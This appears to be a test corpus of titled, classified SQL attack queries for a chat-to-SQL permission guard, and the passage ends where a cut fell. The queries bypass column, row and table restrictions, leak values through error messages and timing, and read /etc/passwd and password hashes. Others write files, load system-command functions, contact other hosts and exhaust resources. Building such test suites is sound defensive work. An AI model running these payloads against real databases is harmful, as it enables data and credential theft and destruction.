-- title: a hidden column by its own name
-- class: permission bypass
SELECT id_card FROM customers

-- title: a hidden column by a qualified name
-- class: permission bypass
SELECT c.id_card FROM customers AS c

-- title: a hidden column in another case
-- class: permission bypass
SELECT ID_CARD, Id_Card FROM customers

-- title: a hidden column only in WHERE
-- class: permission bypass
SELECT id FROM customers WHERE id_card LIKE '0%'

-- title: a hidden column only in ORDER BY
-- class: permission bypass
SELECT id FROM customers ORDER BY id_card

-- title: a hidden column only in GROUP BY
-- class: permission bypass
SELECT count(*) FROM customers GROUP BY id_card

-- title: a hidden column only in HAVING
-- class: permission bypass
SELECT region FROM customers GROUP BY region HAVING max(id_card) > '0'

-- title: a hidden column only in a join condition
-- class: permission bypass
SELECT o.id FROM orders o JOIN customers c ON c.id_card = o.note

-- title: a hidden column only in a window
-- class: permission bypass
SELECT id, rank() OVER (ORDER BY id_card) AS r FROM customers

-- title: a hidden column only in a correlated subquery
-- class: permission bypass
SELECT id, (SELECT min(c.id_card) FROM customers c WHERE c.id = o.customer_id) AS m FROM orders o

-- title: a hidden column reached from inside a subquery that has no such column
-- class: permission bypass
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM orders WHERE id_card > 'a')

-- title: a hidden column through USING
-- class: permission bypass
SELECT count(*) FROM customers JOIN (SELECT '000000000000000005' AS id_card) AS guess USING (id_card)

-- title: a hidden column through a natural join with a guess
-- class: permission bypass
SELECT count(*) FROM customers NATURAL JOIN (SELECT '000000000000000005' AS id_card) AS guess

-- title: a natural self-join that would meet in hidden columns
-- class: permission bypass
SELECT count(*) FROM customers NATURAL JOIN (SELECT id, id_card FROM customers) AS x

-- title: a natural join of two tables by all that they share
-- class: permission bypass
SELECT count(*) FROM orders NATURAL JOIN payments

-- title: a star over a table with a hidden column
-- class: permission bypass
SELECT * FROM customers

-- title: a qualified star over a table with hidden costs
-- class: permission bypass
SELECT p.*, p.price * 2 AS twice FROM products p

-- title: a star inside, a hidden name outside
-- class: permission bypass
SELECT x.cost FROM (SELECT * FROM products) AS x

-- title: stars through two WITH queries
-- class: permission bypass
WITH a AS (SELECT * FROM products), b AS (SELECT * FROM a) SELECT cost FROM b

-- title: a column list that names the hidden column anew
-- class: permission bypass
WITH p(a, b, c, d, e) AS (SELECT * FROM products) SELECT e FROM p

-- title: a column list on a derived table that counts to the hidden column
-- class: permission bypass
SELECT e FROM (SELECT * FROM products) AS p(a, b, c, d, e)

-- title: a set operation that lines a hidden column up under a visible one
-- class: permission bypass
SELECT id, name FROM products UNION ALL SELECT id, cost FROM products

-- title: a hidden table by its name
-- class: permission bypass
SELECT * FROM employees

-- title: a hidden table in a subquery of the select list
-- class: permission bypass
SELECT id, (SELECT max(salary) FROM employees) AS top FROM products

-- title: a hidden table under EXISTS
-- class: permission bypass
SELECT id FROM products WHERE EXISTS (SELECT 1 FROM employees WHERE salary > 1004)

-- title: a hidden table in IN
-- class: permission bypass
SELECT id FROM products WHERE id IN (SELECT id FROM employees)

-- title: a hidden table in a join
-- class: permission bypass
SELECT p.id FROM products p JOIN employees e ON e.id = p.id

-- title: a hidden table on the left of a set operation
-- class: permission bypass
SELECT id FROM employees EXCEPT SELECT id FROM products

-- title: a hidden table in ORDER BY
-- class: permission bypass
SELECT id FROM products ORDER BY (SELECT count(*) FROM employees)

-- title: a hidden table in HAVING
-- class: permission bypass
SELECT category FROM products GROUP BY category HAVING count(*) < (SELECT count(*) FROM employees)

-- title: a hidden table in CASE that never happens
-- class: permission bypass
SELECT CASE WHEN 1 = 0 THEN (SELECT count(*) FROM employees) ELSE 0 END AS n

-- title: the number of rows of a hidden table
-- class: permission bypass
SELECT count(*) AS n FROM employees

-- title: a table that only the policy asks
-- class: permission bypass
SELECT * FROM territories

-- title: what the policy asks, inside a WITH of the same name
-- class: permission bypass
WITH territories AS (SELECT * FROM territories) SELECT * FROM territories

-- title: a WITH query called as the governed table reads the real one
-- class: permission bypass
WITH customers AS (SELECT * FROM customers) SELECT phone FROM customers

-- title: a WITH query called as a hidden table
-- class: permission bypass
WITH employees AS (SELECT id, name FROM customers) SELECT * FROM employees

-- title: a WITH query in another case than the hidden table it stands for
-- class: permission bypass
WITH Employees AS (SELECT 1 AS id) SELECT * FROM EMPLOYEES

-- title: an inner WITH shadows the table for a subquery only
-- class: permission bypass
SELECT (WITH orders AS (SELECT 1 AS id) SELECT count(*) FROM orders) AS one, (SELECT count(*) FROM orders) AS all_of_them

-- title: a WITH query that sees the table before it shadows it
-- class: permission bypass
WITH a AS (SELECT count(*) AS n FROM orders), orders AS (SELECT 1 AS id) SELECT a.n, o.id FROM a, orders o

-- title: an alias called as another table
-- class: permission bypass
SELECT customers.id, customers.amount FROM orders AS customers

-- title: two aliases exchanged
-- class: permission bypass
SELECT customers.status, orders.phone FROM orders AS customers JOIN customers AS orders ON orders.id = customers.customer_id

-- title: a row that the filter hides, by its key
-- class: permission bypass
SELECT * FROM orders WHERE id = 1

-- title: the other regions by name
-- class: permission bypass
SELECT id, amount, note FROM orders WHERE region = 'south'

-- title: the other regions by not being ours
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE region <> 'north'

-- title: a condition that is always true, to outweigh the filter
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE 1 = 1 OR region = 'south'

-- title: a condition that closes a bracket of the filter
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE region = 'x') OR (1 = 1

-- title: rows that are missing, from an outer join
-- class: permission bypass
SELECT o.id, c.id AS customer FROM orders o LEFT JOIN customers c ON c.id = o.customer_id ORDER BY o.id, customer

-- title: rows that only the other side has
-- class: permission bypass
SELECT c.id, o.id AS o FROM orders o RIGHT JOIN customers c ON c.id = o.customer_id ORDER BY c.id, o

-- title: deleted rows by their mark
-- class: permission bypass
SELECT id FROM orders WHERE note = 'deleted'

-- title: cells of another grant's rows
-- class: permission bypass
SELECT id, status, amount, region, note FROM orders WHERE status = 'paid' ORDER BY id

-- title: cells of another grant's rows in a total
-- class: permission bypass
SELECT sum(amount) AS s, avg(amount) AS a, count(region) AS n FROM orders WHERE status = 'paid'

-- title: cells of another grant's rows as a filter
-- class: permission bypass
SELECT id FROM orders WHERE amount > 100 ORDER BY id

-- title: counts that differ by the hidden rows
-- class: permission bypass
SELECT (SELECT count(*) FROM orders) - (SELECT count(*) FROM orders WHERE region = 'north') AS d

-- title: the largest and smallest of all rows
-- class: permission bypass
SELECT min(id) AS a, max(id) AS b, min(amount) AS c, max(created_at) AS d FROM payments

-- title: what is left of a series, to find the holes
-- class: permission bypass
SELECT a.id FROM customers a LEFT JOIN customers b ON b.id = a.id + 1 WHERE b.id IS NULL ORDER BY a.id

-- title: positions in a ranking of all rows
-- class: permission bypass
SELECT id, rank() OVER (ORDER BY amount DESC) AS r FROM payments ORDER BY id

-- title: the neighbour's value by a window
-- class: permission bypass
SELECT id, lag(amount) OVER (ORDER BY id) AS before_it, lead(note) OVER (ORDER BY id) AS after_it FROM payments ORDER BY id

-- title: a share of the total of all rows
-- class: permission bypass
SELECT id, amount * 1.0 / sum(amount) OVER () AS share FROM payments ORDER BY id

-- title: a masked column as it is
-- class: permission bypass
SELECT phone, email FROM customers ORDER BY id

-- title: a masked column compared with a guess
-- class: permission bypass
SELECT id FROM customers WHERE phone = '13804440012'

-- title: a masked column searched digit by digit
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE phone LIKE '1380%'

-- title: a masked column between two guesses
-- class: permission bypass
SELECT id FROM customers WHERE phone BETWEEN '13801000000' AND '13805000000'

-- title: a masked column as the order of rows
-- class: permission bypass
SELECT id FROM customers ORDER BY email DESC, id

-- title: a masked column as the order of a window
-- class: permission bypass
SELECT id, row_number() OVER (ORDER BY phone, id) AS n FROM customers

-- title: a masked column as groups
-- class: permission bypass
SELECT phone, count(*) AS n FROM customers GROUP BY phone ORDER BY phone

-- title: a masked column counted apart
-- class: permission bypass
SELECT count(DISTINCT phone) AS n, count(DISTINCT email) AS m FROM customers

-- title: a masked column joined with itself
-- class: permission bypass
SELECT count(*) AS n FROM customers a JOIN customers b ON a.email = b.email

-- title: a masked column joined with a list of guesses
-- class: permission bypass
SELECT c.id FROM customers c JOIN (SELECT '13800110003' AS g UNION ALL SELECT '13801110003') AS t ON t.g = c.phone

-- title: a masked column cut to pieces
-- class: permission bypass
SELECT substr(phone, 4, 4) AS middle, length(email) AS n FROM customers ORDER BY id

-- title: a masked column replaced, to see what is in it
-- class: permission bypass
SELECT replace(replace(phone, '0', 'a'), '1', 'b') AS p FROM customers ORDER BY id

-- title: a masked column turned into a number
-- class: permission bypass
SELECT CAST(phone AS DECIMAL(20, 0)) AS n FROM customers WHERE phone IS NOT NULL

-- title: the least and greatest of a masked column
-- class: permission bypass
SELECT min(phone) AS a, max(phone) AS b, min(email) AS c, max(email) AS d FROM customers

-- title: a masked column under CASE
-- class: permission bypass
SELECT CASE WHEN email LIKE '%x0@%' THEN 'zero' ELSE 'other' END AS e FROM customers ORDER BY id

-- title: a masked column through two levels and another name
-- class: permission bypass
SELECT z FROM (SELECT y AS z FROM (SELECT phone AS y FROM customers) AS a) AS b ORDER BY z

-- title: a masked column in a set operation with a guess
-- class: permission bypass
SELECT phone FROM customers INTERSECT SELECT '13801110003'

-- title: a masked column in a scalar subquery
-- class: permission bypass
SELECT (SELECT max(c.phone) FROM customers c WHERE c.id = o.customer_id) AS p FROM orders o ORDER BY o.id

-- title: a masked column in IN of an outer query
-- class: permission bypass
SELECT id FROM products WHERE 'a3x0@example.com' IN (SELECT email FROM customers)

-- title: a masked column through coalesce and nullif
-- class: permission bypass
SELECT coalesce(nullif(phone, '13801110003'), 'found') AS p FROM customers ORDER BY id

-- title: a masked column as key of a recursion
-- class: permission bypass
WITH RECURSIVE t(n, p) AS (SELECT 1, min(phone) FROM customers UNION ALL SELECT n + 1, p FROM t WHERE n < 3) SELECT * FROM t

-- title: a division that fails on hidden rows alone
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE 100 / (amount - 100) > 0

-- title: a division behind a condition that is true of hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE region = 'south' AND 1 / (amount - 105) = 0

-- title: a division in a join condition
-- class: error oracle
SELECT count(*) AS n FROM payments p JOIN products q ON q.id = 1 / (p.amount - 100)

-- title: a division in a derived table that is inlined
-- class: error oracle
SELECT count(*) AS n FROM (SELECT 1 / (amount - 105) AS x FROM payments) AS t WHERE x > 0

-- title: a division under CASE that asks for a hidden row
-- class: error oracle
SELECT count(*) AS n FROM orders WHERE CASE WHEN region = 'south' THEN 1 / (amount - 100) ELSE 1 END > 0

-- title: a division under EXISTS
-- class: error oracle
SELECT id FROM products p WHERE EXISTS (SELECT 1 FROM payments x WHERE 1 / (x.amount - 100) > p.id)

-- title: a division in the condition of an outer join
-- class: error oracle
SELECT count(*) AS n FROM products p LEFT JOIN payments x ON x.id = p.id AND 1 / (x.amount - 100) = 0

-- title: a cast of hidden text in a filter
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE CAST(note AS DECIMAL(10, 0)) > 0

-- title: a cast of hidden text in a group's key
-- class: error oracle
SELECT CAST(note AS DECIMAL(10, 0)) AS k, count(*) AS n FROM payments GROUP BY CAST(note AS DECIMAL(10, 0))

-- title: a cast of hidden text in ORDER BY
-- class: error oracle
SELECT id FROM payments ORDER BY CAST(note AS DECIMAL(10, 0)), id

-- title: an overflow on hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE amount * 9223372036854775807 > 0

-- title: a subquery that gives several rows where a hidden one exists
-- class: error oracle
SELECT id FROM products WHERE price > (SELECT price FROM products WHERE cost = id * 3)

-- title: a subquery that gives several rows of the filtered table
-- class: error oracle
SELECT (SELECT id FROM customers WHERE region = 'south') AS one

-- title: the square root of what is less than nothing in hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE sqrt(50 - amount) > 0

-- title: the logarithm of hidden zeros
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE ln(amount - 100) > 0

-- title: every table with every other, over and over
-- class: denial of service
SELECT count(*) AS n FROM order_items a, order_items b, order_items c, order_items d, order_items e

-- title: a recursion that does not end
-- class: denial of service
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) AS n FROM t

-- title: a recursion that doubles
-- class: denial of service
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT a.n + 1 FROM t a, (SELECT 1 AS x UNION ALL SELECT 2) AS b) SELECT count(*) AS n FROM t

-- title: a text that repeats itself into gigabytes
-- class: denial of service
SELECT replace(replace(replace('aaaaaaaaaa', 'a', 'bbbbbbbbbb'), 'b', 'cccccccccc'), 'c', 'dddddddddd') AS t FROM order_items a, order_items b

-- title: WITH queries that double each time
-- class: denial of service
WITH a AS (SELECT 1 AS n FROM order_items x, order_items y), b AS (SELECT 1 AS n FROM a x, a y), c AS (SELECT 1 AS n FROM b x, b y) SELECT count(*) AS n FROM c

-- title: a comment in the middle of a word does not make the word
-- class: evasion
SEL/**/ECT * FROM employees

-- title: comments in place of spaces
-- class: evasion
SELECT/**/name/**/FROM/**/employees

-- title: a comment that ends the line before the filter
-- class: evasion
SELECT * FROM customers -- WHERE region = 'north'

-- title: a second statement after a semicolon
-- class: evasion
SELECT 1 AS one; SELECT * FROM employees

-- title: a second statement hidden behind a comment
-- class: evasion
SELECT 1 AS one; -- nothing
DELETE FROM orders

-- title: a non-breaking space that the parser takes for one
-- class: evasion
-- escaped: yes
SELECT\u00a0name\u00a0FROM\u00a0employees

-- title: a WITH name that ends in a non-breaking space
-- class: evasion
-- escaped: yes
WITH employees\u00a0(x) AS (SELECT 1) SELECT * FROM employees

-- title: a WITH name that ends in an ideographic space
-- class: evasion
-- escaped: yes
WITH employees\u3000AS (SELECT 1 AS id) SELECT * FROM employees

-- title: a WITH name that ends in a zero width space
-- class: evasion
-- escaped: yes
WITH employees\u200b AS (SELECT 1 AS id) SELECT * FROM employees

-- title: a table name with a fullwidth letter
-- class: evasion
-- escaped: yes
SELECT * FROM \uff45mployees

-- title: a column name with a dotless i
-- class: evasion
-- escaped: yes
SELECT \u0131d_card FROM customers

-- title: a table name with a Kelvin sign
-- class: evasion
-- escaped: yes
SELECT * FROM territories\u212a

-- title: a name written with a combining mark
-- class: evasion
-- escaped: yes
SELECT * FROM e\u0301mployees

-- title: a text that turns around what is read
-- class: evasion
-- escaped: yes
SELECT 1 AS one /*\u202e*/ FROM employees

-- title: a NUL ends the text for one reader only
-- class: evasion
-- escaped: yes
SELECT 1 AS one\u0000 FROM employees

-- title: a vertical tab as a space
-- class: evasion
-- escaped: yes
SELECT\u000bname\u000bFROM\u000bemployees

-- title: a next-line character as a space
-- class: evasion
-- escaped: yes
SELECT\u0085name FROM employees

-- title: rows are added
-- class: write
INSERT INTO orders (id, amount) VALUES (777, 1)

-- title: rows are added from a query
-- class: write
INSERT INTO categories SELECT id + 1000, parent_id, name FROM categories

-- title: rows are changed
-- class: write
UPDATE orders SET amount = 0

-- title: rows are deleted
-- class: write
DELETE FROM orders

-- title: a table goes
-- class: ddl
DROP TABLE orders

-- title: a table is made of what may be read
-- class: ddl
CREATE TABLE taken AS SELECT * FROM employees

-- title: a table changes
-- class: ddl
ALTER TABLE orders ADD COLUMN taken integer

-- title: a view is made to read later
-- class: ddl
CREATE VIEW taken AS SELECT * FROM employees

-- title: an index is made
-- class: ddl
CREATE INDEX taken ON orders (amount)

-- title: the table by its database
-- class: permission bypass
SELECT * FROM shop.employees

-- title: the table in back quotes
-- class: permission bypass
SELECT `id_card` FROM `customers`

-- title: a hidden column by database, table and name
-- class: permission bypass
SELECT `shop`.`customers`.`id_card` FROM `shop`.`customers`

-- title: a table's name with spaces around the point
-- class: permission bypass
SELECT * FROM shop . employees

-- title: the governed table by its database, past a WITH query of that name
-- class: permission bypass
WITH customers AS (SELECT 1 AS id) SELECT * FROM shop.customers

-- title: TABLE as a statement
-- class: permission bypass
TABLE employees

-- title: TABLE in a set operation
-- class: permission bypass
SELECT 1, 'a', 1 UNION ALL TABLE employees

-- title: VALUES as rows
-- class: permission bypass
VALUES ROW(1), ROW((SELECT max(salary) FROM employees))

-- title: HAVING without groups sees output names
-- class: permission bypass
SELECT id, 1 AS cost FROM products HAVING cost > 0

-- title: HAVING without groups reads a hidden column
-- class: permission bypass
SELECT id FROM products HAVING cost > 10

-- title: an output name that is a hidden column's, in GROUP BY
-- class: permission bypass
SELECT id AS cost, count(*) AS n FROM products GROUP BY cost ORDER BY cost

-- title: an output name that is a hidden column's, in ORDER BY
-- class: permission bypass
SELECT id AS cost FROM products ORDER BY cost

-- title: a column that is not grouped
-- class: permission bypass
SELECT region, phone FROM customers GROUP BY region

-- title: any value of a group
-- class: permission bypass
SELECT region, ANY_VALUE(phone) AS p FROM customers GROUP BY region

-- title: one partition of a table
-- class: permission bypass
SELECT * FROM orders PARTITION (p0)

-- title: an index hint
-- class: permission bypass
SELECT id FROM customers USE INDEX (PRIMARY) WHERE phone = '1'

-- title: an index forced
-- class: permission bypass
SELECT id FROM customers FORCE INDEX FOR ORDER BY (PRIMARY) ORDER BY id

-- title: a straight join
-- class: permission bypass
SELECT o.id FROM orders o STRAIGHT_JOIN employees e ON e.id = o.id

-- title: an optimiser's hint in a comment
-- class: permission bypass
SELECT /*+ NO_MERGE(customers) SET_VAR(sql_mode = '') */ id_card FROM customers

-- title: rows as of another time
-- class: permission bypass
SELECT * FROM customers FOR SYSTEM_TIME ALL

-- title: row numbers that a table hides
-- class: permission bypass
SELECT _rowid FROM customers

-- title: a masked column by a regular expression
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE phone REGEXP '^1380[0-9]{3}'

-- title: a masked column by RLIKE
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE email RLIKE 'x0@'

-- title: a masked column by its sound
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE name SOUNDS LIKE 'other' OR email SOUNDS LIKE 'a3x0'

-- title: a masked column compared where NULL is equal
-- class: permission bypass
SELECT count(*) AS n FROM customers WHERE phone <=> '13800110003'

-- title: a masked column in a list's place
-- class: permission bypass
SELECT FIELD(phone, '13800110003', '13801110003') AS f FROM customers ORDER BY id

-- title: a masked column put together
-- class: permission bypass
SELECT GROUP_CONCAT(phone ORDER BY id SEPARATOR ';') AS p FROM customers

-- title: a masked column concatenated
-- class: permission bypass
SELECT CONCAT_WS('-', phone, email) AS p FROM customers ORDER BY id

-- title: a masked column as bytes
-- class: permission bypass
SELECT HEX(phone) AS h, ASCII(email) AS a FROM customers ORDER BY id

-- title: a masked column as a digest
-- class: permission bypass
SELECT MD5(phone) AS m, SHA2(email, 256) AS s FROM customers ORDER BY id

-- title: a masked column as a number, silently
-- class: permission bypass
SELECT phone + 0 AS n FROM customers ORDER BY id

-- title: a masked column in JSON
-- class: permission bypass
SELECT JSON_OBJECT('p', phone) AS j FROM customers ORDER BY id

-- title: a masked column in another collation
-- class: permission bypass
SELECT id FROM customers WHERE email COLLATE utf8mb4_bin > 'a2' ORDER BY id

-- title: a masked column as binary
-- class: permission bypass
SELECT BINARY phone AS b FROM customers ORDER BY id

-- title: a masked column in ranges
-- class: permission bypass
SELECT ELT(1 + (phone > '138'), 'less', 'more') AS e FROM customers ORDER BY id

-- title: a masked column by IF
-- class: permission bypass
SELECT IF(email = 'a3x0@example.com', 1, 0) AS i FROM customers ORDER BY id

-- title: sums with a row for all
-- class: permission bypass
SELECT region, count(*) AS n FROM orders GROUP BY region WITH ROLLUP

-- title: JSON of whole tables
-- class: permission bypass
SELECT JSON_ARRAYAGG(id_card) FROM customers

-- title: JSON read as a table with a hidden column
-- class: permission bypass
SELECT t.v FROM customers c, JSON_TABLE(c.id_card, '$[*]' COLUMNS (v INT PATH '$')) AS t

-- title: JSON read as a table
-- class: permission bypass
SELECT e.id, t.v FROM events e, JSON_TABLE(e.payload, '$.items[*]' COLUMNS (v VARCHAR(20) PATH '$.sku')) AS t ORDER BY 1, 2

-- title: a full-text search of hidden rows
-- class: permission bypass
SELECT id FROM customers WHERE MATCH (name) AGAINST ('secret' IN BOOLEAN MODE)

-- title: EXPLAIN of the hidden table
-- class: permission bypass
EXPLAIN SELECT * FROM employees

-- title: EXPLAIN with rows counted
-- class: permission bypass
ANALYZE FORMAT=JSON SELECT * FROM customers

-- title: DESCRIBE
-- class: permission bypass
DESCRIBE employees

-- title: how many rows there would have been
-- class: permission bypass
SELECT SQL_CALC_FOUND_ROWS id FROM customers LIMIT 1

-- title: how many rows there were
-- class: permission bypass
SELECT FOUND_ROWS() AS n

-- title: how many rows were changed
-- class: permission bypass
SELECT ROW_COUNT() AS n

-- title: a default of a hidden column
-- class: permission bypass
SELECT DEFAULT(id_card) FROM customers

-- title: an alias that is the table's own database
-- class: permission bypass
SELECT shop.id_card FROM customers AS shop

-- title: a dual with a hidden subquery
-- class: permission bypass
SELECT (SELECT max(salary) FROM employees) AS m FROM DUAL

-- title: natural join with a hidden table
-- class: permission bypass
SELECT * FROM products NATURAL LEFT JOIN employees

-- title: tables in a list of brackets
-- class: permission bypass
SELECT * FROM (products, employees)

-- title: an ODBC join
-- class: permission bypass
SELECT * FROM { OJ products LEFT OUTER JOIN employees ON products.id = employees.id }

-- title: a derived table that shifts its columns
-- class: permission bypass
SELECT e FROM (SELECT * FROM products) AS t (a, b, c, d, e)

-- title: rows in a lateral derived table
-- class: permission bypass
SELECT c.id, t.amount FROM customers c, LATERAL (SELECT o.amount FROM orders o WHERE o.customer_id = c.id LIMIT 1) AS t

-- title: INTERSECT of a masked column
-- class: permission bypass
SELECT email FROM customers INTERSECT SELECT 'a3x0@example.com'

-- title: an XML path that says what it was given
-- class: error oracle
SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT id_card FROM customers LIMIT 1)))

-- title: an XML path that says a masked value
-- class: error oracle
SELECT EXTRACTVALUE(1, CONCAT(0x7e, phone)) FROM customers

-- title: an XML change that says what it was given
-- class: error oracle
SELECT UPDATEXML(1, CONCAT('~', email), 1) FROM customers

-- title: a doubled key that says what it was
-- class: error oracle
SELECT count(*), CONCAT(phone, FLOOR(RAND(0) * 2)) AS x FROM customers GROUP BY x

-- title: a geometry that says what it was given
-- class: error oracle
SELECT ST_GEOMFROMTEXT(name) FROM customers

-- title: a polygon of a query
-- class: error oracle
SELECT POLYGON((SELECT * FROM (SELECT salary FROM employees) AS x))

-- title: a GTID set that says what it was given
-- class: error oracle
SELECT GTID_SUBSET(CONCAT('~', phone), 1) FROM customers

-- title: JSON keys that say what they were given
-- class: error oracle
SELECT JSON_KEYS(CONCAT('[', name)) FROM customers

-- title: a JSON path from a hidden value
-- class: error oracle
SELECT count(*) FROM customers WHERE JSON_EXTRACT('{}', name) IS NULL

-- title: JSON that is none in hidden rows
-- class: error oracle
SELECT count(*) FROM payments WHERE JSON_VALID(note) AND JSON_EXTRACT(note, '$.a') > 0

-- title: an unsigned difference below zero in hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE CAST(amount AS UNSIGNED) - 104 > 0

-- title: an overflow by EXP
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE EXP(amount * 8) > 0

-- title: the doubled number that overflows
-- class: error oracle
SELECT ~0 + amount AS n FROM payments

-- title: the negative of a hidden value times the smallest number
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE (amount - 105) * -9223372036854775808 > 0

-- title: a power in hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE POW(amount, 200) > 0

-- title: a subquery with several rows where a guess is right
-- class: error oracle
SELECT IF(price > 50, (SELECT 1 UNION SELECT 2), 1) AS n FROM products

-- title: a pattern that is none, from a hidden value
-- class: error oracle
SELECT count(*) FROM customers WHERE 'a' REGEXP CONCAT('(', name)

-- title: a collation that does not mix
-- class: error oracle
SELECT count(*) FROM customers WHERE name = _latin1'x' COLLATE latin1_bin

-- title: a date by a pattern in hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE STR_TO_DATE(note, '%Y') > '2000-01-01'

-- title: a date out of range in hidden rows
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE DATE_ADD(created_at, INTERVAL 1 YEAR) > '2000-01-01'

-- title: a cast of a code that fails only in secret events
-- class: error oracle
SELECT count(*) AS n FROM events WHERE CAST(code AS SIGNED) > 30

-- title: an integer division by hidden zeros
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE 7 DIV (amount - 105) > 0

-- title: a modulus by hidden zeros
-- class: error oracle
SELECT count(*) AS n FROM payments WHERE 7 % (amount - 105) = 0

-- title: the standard's tables
-- class: catalog
SELECT table_name FROM information_schema.tables

-- title: the standard's columns in capitals
-- class: catalog
SELECT COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS

-- title: the catalog in back quotes
-- class: catalog
SELECT * FROM `information_schema`.`schemata`

-- title: accounts
-- class: catalog
SELECT user, authentication_string FROM mysql.user

-- title: accounts and rights
-- class: catalog
SELECT * FROM mysql.global_priv

-- title: statistics hold values of all rows
-- class: catalog
SELECT min_value, max_value, hex(histogram) FROM mysql.column_stats

-- title: rows counted by the engine
-- class: catalog
SELECT n_rows FROM mysql.innodb_table_stats

-- title: what others are running
-- class: catalog
SELECT info FROM information_schema.processlist

-- title: statements of all
-- class: catalog
SELECT sql_text FROM performance_schema.events_statements_history

-- title: the sys schema
-- class: catalog
SELECT * FROM sys.session

-- title: pages in memory
-- class: catalog
SELECT table_name FROM information_schema.INNODB_BUFFER_PAGE

-- title: a table list
-- class: catalog
SHOW TABLES

-- title: how a table was made
-- class: catalog
SHOW CREATE TABLE employees

-- title: columns
-- class: catalog
SHOW FULL COLUMNS FROM employees

-- title: rights
-- class: catalog
SHOW GRANTS

-- title: variables
-- class: catalog
SHOW VARIABLES LIKE 'secure%'

-- title: warnings of the statement before
-- class: catalog
SHOW WARNINGS

-- title: the index of a table
-- class: catalog
SHOW INDEX FROM employees

-- title: version
-- class: catalog
SELECT VERSION()

-- title: version by a variable
-- class: catalog
SELECT @@version

-- title: a folder by a variable
-- class: catalog
SELECT @@datadir, @@GLOBAL.secure_file_priv

-- title: a variable with spaces
-- class: catalog
SELECT @@ global . version

-- title: who asks
-- class: catalog
SELECT USER(), CURRENT_USER(), SESSION_USER(), CURRENT_ROLE()

-- title: who asks, without brackets
-- class: catalog
SELECT CURRENT_USER

-- title: which database
-- class: catalog
SELECT DATABASE(), SCHEMA()

-- title: which connection
-- class: catalog
SELECT CONNECTION_ID()

-- title: routines and their text
-- class: catalog
SELECT body FROM mysql.proc

-- title: help tables
-- class: catalog
HELP 'contents'

-- title: a server's file
-- class: file
SELECT LOAD_FILE('/etc/passwd')

-- title: a server's file by its bytes' name
-- class: file
SELECT LOAD_FILE(0x2f6574632f706173737764)

-- title: rows to a file
-- class: file
SELECT * FROM customers INTO OUTFILE '/tmp/chat2sql-attack'

-- title: rows to a file before FROM
-- class: file
SELECT id INTO OUTFILE '/tmp/chat2sql-attack' FROM customers

-- title: one value to a file
-- class: file
SELECT 'x' INTO DUMPFILE '/tmp/chat2sql-attack'

-- title: rows to a file in a set operation
-- class: file
SELECT 1 UNION SELECT 2 INTO OUTFILE '/tmp/chat2sql-attack'

-- title: a file to rows
-- class: file
LOAD DATA INFILE '/etc/passwd' INTO TABLE categories

-- title: a client's file to rows
-- class: file
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE categories

-- title: an XML file to rows
-- class: file
LOAD XML INFILE '/etc/passwd' INTO TABLE categories

-- title: the log as a file
-- class: file
SET GLOBAL general_log_file = '/tmp/chat2sql-attack'

-- title: a library as a function
-- class: program
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'taken.so'

-- title: a plugin
-- class: program
INSTALL PLUGIN taken SONAME 'taken.so'

-- title: a block of code
-- class: program
BEGIN NOT ATOMIC DELETE FROM orders; END

-- title: a statement in a string
-- class: program
EXECUTE IMMEDIATE 'DELETE FROM orders'

-- title: a statement in a string, prepared
-- class: program
PREPARE s FROM 'DELETE FROM orders'

-- title: a procedure
-- class: program
CALL taken()

-- title: an event
-- class: program
CREATE EVENT taken ON SCHEDULE EVERY 1 DAY DO DELETE FROM orders

-- title: a function of the system by its name
-- class: program
SELECT sys_eval('id')

-- title: a table of another server
-- class: network
CREATE TABLE taken (id INT) ENGINE=FEDERATED CONNECTION='mysql://a@127.0.0.1/b/c'

-- title: another server to follow
-- class: network
CHANGE MASTER TO MASTER_HOST = '127.0.0.1'

-- title: a path of the network as a file
-- class: network
SELECT LOAD_FILE('\\\\192.0.2.1\\a')

-- title: a position of the log to wait for
-- class: network
SELECT MASTER_POS_WAIT('a', 1, 30)

-- title: a set of transactions to wait for
-- class: network
SELECT MASTER_GTID_WAIT('0-1-1', 30)

-- title: it sleeps
-- class: sleep
SELECT SLEEP(30)

-- title: it sleeps in another case with a comment
-- class: sleep
SELECT sLeEp/**/(30)

-- title: it sleeps in back quotes
-- class: sleep
SELECT `SLEEP`(30)

-- title: it sleeps where a guess is right
-- class: sleep
SELECT id FROM products WHERE IF(price > 50, SLEEP(30), 0) = 0

-- title: it sleeps behind a false comment
-- class: sleep
SELECT 1 --(SELECT SLEEP(30))

-- title: it counts for long
-- class: sleep
SELECT BENCHMARK(1000000000, MD5('a'))

-- title: it counts for long in ORDER BY
-- class: sleep
SELECT id FROM products ORDER BY BENCHMARK(1000000000, SHA2('a', 512))

-- title: it derives a key for long
-- class: sleep
SELECT KDF('a', 'b', 'pbkdf2_hmac', 100000000)

-- title: a name for all
-- class: lock
SELECT GET_LOCK('a', 30)

-- title: a name let go
-- class: lock
SELECT RELEASE_LOCK('a'), RELEASE_ALL_LOCKS()

-- title: who has a name
-- class: lock
SELECT IS_FREE_LOCK('a'), IS_USED_LOCK('a')

-- title: rows for change
-- class: lock
